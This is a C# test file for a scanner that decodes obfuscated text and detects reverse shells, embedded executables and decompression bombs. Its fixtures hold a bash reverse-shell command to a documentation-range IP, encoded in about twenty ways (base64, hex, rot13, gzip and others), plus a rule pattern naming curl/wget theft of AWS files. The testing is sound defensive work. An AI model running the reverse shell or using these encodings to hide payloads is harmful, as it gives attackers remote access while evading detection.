using System.IO.Compression;
using System.Text;

namespace Symbiont.Scanning.Tests.Decoding;

public sealed class PayloadTests
{
    private const string Command = "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1";

    private static readonly SkillScanner Scanner = new();

    public static TheoryData<string, string> Encoded => new()
    {
        { "base64", $"data = '{Base64(Command)}'" },
        { "base64", $"data = '{Base64(Command)[..20]}' \\\n  '{Base64(Command)[20..]}'" },
        { "base64", $"# {Base64(Command + " " + new string('x', 90))[..76]}\n{Base64(Command + " " + new string('x', 90))[76..]}\n" },
        { "base64", $"x = \"{Convert.ToBase64String(Encoding.Unicode.GetBytes(Command))}\"" },
        { "reversed base64", $"x = \"{Reversed(Base64(Command).TrimEnd('='))}\"" },
        { "hex", $"data = '{Convert.ToHexStringLower(Encoding.UTF8.GetBytes(Command))}'" },
        { "base32", "data = 'MJQXG2BANFZSAPRGEAXWIZLWF52GG4BPGIYDGLRQFYYTCMZOHEXTINBUGQQDAPRGGE======'" },
        { "expansion", "s = '" + string.Concat(Command.Select(c => $"\\x{(int)c:x2}")) + "'" },
        { "expansion", "s = '" + string.Concat(Command.Select(c => $"\\u{(int)c:x4}")) + "'" },
        { "character codes", "s = [" + string.Join(", ", Command.Select(c => (int)c)) + "]" },
        { "character codes", "s = " + string.Join("+", Command.Select(c => $"chr({(int)c})")) },
        { "character codes", "s = bytes([" + string.Join(",", Command.Select(c => $"0x{(int)c:x2}")) + "])" },
        { "percent", "u = '" + string.Concat(Command.Select(c => $"%{(int)c:x2}")) + "'" },
        { "entities", "<p>" + string.Concat(Command.Select(c => $"&#{(int)c};")) + "</p>" },
        { "reversed", $"s = '{Reversed(Command)}'[::-1]" },
        { "rot13", $"s = codecs.decode('{Rotated(Command)}', 'rot13')" },
        { "base64 > gzip", $"data = '{Convert.ToBase64String(Packed(Command, stream => new GZipStream(stream, CompressionLevel.Optimal)))}'" },
        { "base64 > zlib", $"data = '{Convert.ToBase64String(Packed(Command, stream => new ZLibStream(stream, CompressionLevel.Optimal)))}'" },
        { "hex > base64", $"data = '{Convert.ToHexStringLower(Encoding.UTF8.GetBytes($"echo {Base64(Command)}"))}'" },
        { "base64 > base64 > base64", $"data = '{Base64("x=" + Base64("y=" + Base64(Command)))}'" },
    };

    [Theory, MemberData(nameof(Encoded))]
    public void What_is_encoded_is_decoded_and_scanned_again(string layers, string text)
    {
        var found = Scanner.ScanText("first line\n" + text, "data.txt").Findings.Where(finding => finding.Rule == "reverse-shell-bash").ToList();

        var one = Assert.Single(found);
        Assert.Equal((Severity.Critical, 2, layers), (one.Severity, one.Line, string.Join(" > ", one.Layers)));
    }

    [Fact]
    public void Deeper_than_the_limit_is_a_finding_and_not_passed_over()
    {
        var text = Command;
        for (var i = 0; i < 5; i++)
            text = "x=" + Base64(text);
        var shallow = new SkillScanner(new ScanOptions { Limits = new() { Depth = 3 } });

        Assert.Contains(shallow.ScanText(text, "a.txt").Findings, finding => finding is { Rule: "scan-depth-limit", Severity: Severity.High });
        Assert.DoesNotContain(Scanner.ScanText(text, "a.txt").Findings, finding => finding.Rule == "scan-depth-limit");
    }

    [Fact]
    public void More_than_may_be_decoded_is_a_finding()
    {
        var bomb = Convert.ToBase64String(Packed(new string('a', 4 << 20), stream => new GZipStream(stream, CompressionLevel.Optimal)));
        var small = new SkillScanner(new ScanOptions { Limits = new() { UnpackedBytes = 1 << 20 } });

        Assert.Contains(small.ScanText(bomb, "a.txt").Findings, finding => finding is { Rule: "scan-size-limit", Severity: Severity.High });
    }

    [Fact]
    public void On_a_packed_line_only_what_stands_about_entities_is_decoded()
    {
        var packed = string.Concat(Enumerable.Range(0, 400).Select(i => $"function a{i}(e,t){{return e?t[e]:!1}}"));
        const string Table = "var n={lt:\"&#60;\",gt:\"&#62;\",amp:\"&#38;\",quot:\"&#34;\"};";

        Assert.DoesNotContain(Scanner.ScanText(packed + "var rules=[{id:\"fetch\",pattern:/\\b(?:curl|wget)\\s+-d @[^\\s]+\\.aws/}];" + packed + Table, "a.js").Findings, finding => finding.Layers.Contains("entities"));
        Assert.Contains(Scanner.ScanText(packed + "run(\"" + string.Concat(Command.Select(c => $"&#{(int)c};")) + "\");" + packed, "a.js").Findings, finding => finding.Rule == "reverse-shell-bash");
    }

    [Fact]
    public void A_mebibyte_of_entities_in_small_groups_is_read_to_its_end()
    {
        var text = string.Concat(Enumerable.Repeat("&#99;&#117;&#114;&#108;" + new string('x', 210), 4500));

        var took = ThreadTime.Of(() => _ = Scanner.ScanText(text, "a.js"));

        Assert.True(took < TimeSpan.FromSeconds(20), $"took {took.TotalSeconds:N1} s");
    }

    [Theory]
    [InlineData("sha256: 9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08")]
    [InlineData("\"integrity\": \"sha512-rYl3v8nC1q7tYk0m2b6dQx4wz9eHfJpLsVuAiGoTnKcE5SjR8XWMQ1DZBFUyNhP=\"")]
    [InlineData("const interestingIdentifierOfSomeLength = getConfigurationManagerInstance()")]
    [InlineData("GET /files/a%20b%20c%20d?x=%7B%22a%22%3A1%7D")]
    [InlineData("const primes = [101, 103, 107, 109, 113, 127, 131, 137, 139, 149]")]
    public void What_only_looks_encoded_says_nothing(string text) => Assert.Empty(Scanner.ScanText(text, "a.js").Findings);

    [Fact]
    public void A_program_within_a_text_is_found()
    {
        var program = new byte[400];
        "\x7F"u8.CopyTo(program);
        "ELF"u8.CopyTo(program.AsSpan(1));

        Assert.Contains(Scanner.ScanText($"x = '{Convert.ToBase64String(program)}'", "a.py").Findings, finding => finding.Rule == "embedded-executable");
    }

    private static string Base64(string text) => Convert.ToBase64String(Encoding.UTF8.GetBytes(text));

    private static string Reversed(string text) => new([.. text.Reverse()]);

    private static string Rotated(string text) => new([.. text.Select(c => char.IsAsciiLetterLower(c) ? (char)('a' + ((c - 'a' + 13) % 26)) : c)]);

    private static byte[] Packed(string text, Func<Stream, Stream> pack)
    {
        using var into = new MemoryStream();
        using (var stream = pack(into))
            stream.Write(Encoding.UTF8.GetBytes(text));
        return into.ToArray();
    }
}
